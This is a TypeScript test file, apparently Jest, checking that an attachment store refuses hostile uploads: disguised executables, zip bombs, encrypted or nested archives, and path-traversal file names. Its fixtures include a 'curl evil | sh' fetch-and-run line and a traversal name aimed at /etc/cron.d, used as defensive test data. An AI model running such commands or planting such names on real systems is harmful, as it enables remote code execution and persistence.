/**
 * Issue 15's hostile uploads, each refused with a clear error and nothing stored (no object, no
 * record): an oversize file, an executable renamed .pdf, DOCX zip bombs (a real one and one whose
 * directory lies), encrypted and nested archives, and file names that would escape a folder or
 * hide characters. The same file twice is one attachment.
 */
import { randomBytes } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { generateAttachmentPdf } from '../../client/rehearsal-attachments';
import { keyringOf } from '../../codec/keys';
import { AttachmentStore } from '../../storage/attachments';
import { FsFileStore } from '../../storage/files';
import { openRecords, type OpenRecords } from '../../storage/records';
import { docx, docxBomb, docxClaimingBomb } from '../storage/zip-fixtures';

const root = fs.mkdtempSync(path.join(os.tmpdir(), 'kczg-hostile-attachments-'));
let records: OpenRecords;
let files: FsFileStore;
let store: AttachmentStore;

beforeAll(async () => {
  records = await openRecords({ backend: 'pglite' });
  files = new FsFileStore(root);
  store = new AttachmentStore(records.db, files, keyringOf({ k1: randomBytes(32) }, 'k1'));
}, 60_000);

afterAll(async () => {
  await records?.close();
  fs.rmSync(root, { recursive: true, force: true });
});

async function expectNothingStored(): Promise<void> {
  expect(await files.list('attachments/')).toEqual([]);
  expect(await records.db.selectFrom('attachments').selectAll().execute()).toEqual([]);
}

const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), randomBytes(4_000)]);

describe('hostile uploads are refused and nothing is stored', () => {
  it.each<[string, () => Promise<Buffer> | Buffer, string, Record<string, unknown>]>([
    [
      'an oversize file (over the slot limit)',
      () => generateAttachmentPdf('Big', ['x'.repeat(90)]),
      'max-bytes',
      { maxBytes: 500 },
    ],
    [
      'a file over the store ceiling',
      () => Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(20 * 1024 * 1024)]),
      'max-bytes',
      {},
    ],
    ['an executable renamed .pdf', () => ELF, 'executable', {}],
    ['a shell script renamed .pdf', () => Buffer.from('#!/bin/sh\ncurl evil | sh\n'), 'executable', {}],
    ['a DOCX zip bomb', docxBomb, 'archive-bomb', {}],
    ['a DOCX whose directory claims 4 GiB (refused without inflating)', docxClaimingBomb, 'archive-bomb', {}],
    [
      'an encrypted DOCX',
      () => docx([{ name: 'word/secret.xml', data: Buffer.from('x'), encrypted: true }]),
      'archive-encrypted',
      {},
    ],
    [
      'a DOCX with a ZIP inside',
      () => docx([{ name: 'word/embeddings/x.zip', data: Buffer.from('PK') }]),
      'archive-nested',
      {},
    ],
    ['a damaged archive', () => docx().subarray(0, 200), 'archive-damaged', {}],
    [
      'a PDF where the slot takes images',
      () => generateAttachmentPdf('Photo?', []),
      'format-not-allowed',
      { formats: ['jpeg', 'png'] },
    ],
  ])('%s', async (_what, content, rule, slot) => {
    const bytes = await content();
    await expect(store.put({ bytes, name: '报告.pdf', slot: 'proof', ...slot })).rejects.toMatchObject({
      rejection: {
        code: 'INVALID',
        field: 'file',
        rule,
        message: expect.stringMatching(/^[\u4e00-\u9fff]/),
        fix: expect.any(String),
      },
    });
    await expectNothingStored();
  });

  it.each(['../', '..\\..\\', '\u0000\u001b\u202e', ''])(
    'a file name with nothing visible (%j)',
    async (name) => {
      const bytes = await generateAttachmentPdf('Nameless', []);
      await expect(store.put({ bytes, name, slot: 'proof' })).rejects.toMatchObject({
        rejection: { code: 'INVALID', field: 'name', rule: 'file-name' },
      });
      await expectNothingStored();
    },
  );

  it('a slot that is not an identifier', async () => {
    const bytes = await generateAttachmentPdf('Slot', []);
    await expect(store.put({ bytes, name: 'a.pdf', slot: '../proof' })).rejects.toMatchObject({
      rejection: { code: 'INVALID', field: 'slot' },
    });
    await expectNothingStored();
  });
});

describe('file names with traversal and control characters', () => {
  it('are stored under their hash only, with the name made safe', async () => {
    const bytes = await generateAttachmentPdf('Traversal', ['..']);
    const { ref, renamed } = await store.put({
      bytes,
      name: '../../../etc/cron.d/\u0007evil\u202egpj.pdf',
      slot: 'proof',
    });
    expect(renamed).toBe(true);
    expect(ref.name).toBe('evilgpj.pdf');
    expect(await files.list('')).toEqual([`attachments/${ref.sha256}`]);
    expect(fs.existsSync(path.join(root, '..', 'etc'))).toBe(false);
  });

  it('the same file uploaded twice is one attachment', async () => {
    const bytes = await generateAttachmentPdf('Twice', ['same']);
    const first = await store.put({ bytes, name: 'twice.pdf', slot: 'proof' });
    const second = await store.put({ bytes, name: 'twice.pdf', slot: 'proof' });
    expect([first.created, second.created]).toEqual([true, false]);
    expect(second.ref).toEqual(first.ref);
    const rows = await records.db
      .selectFrom('attachments')
      .select('sha256')
      .where('sha256', '=', first.ref.sha256)
      .execute();
    expect(rows).toHaveLength(1);
  });
});
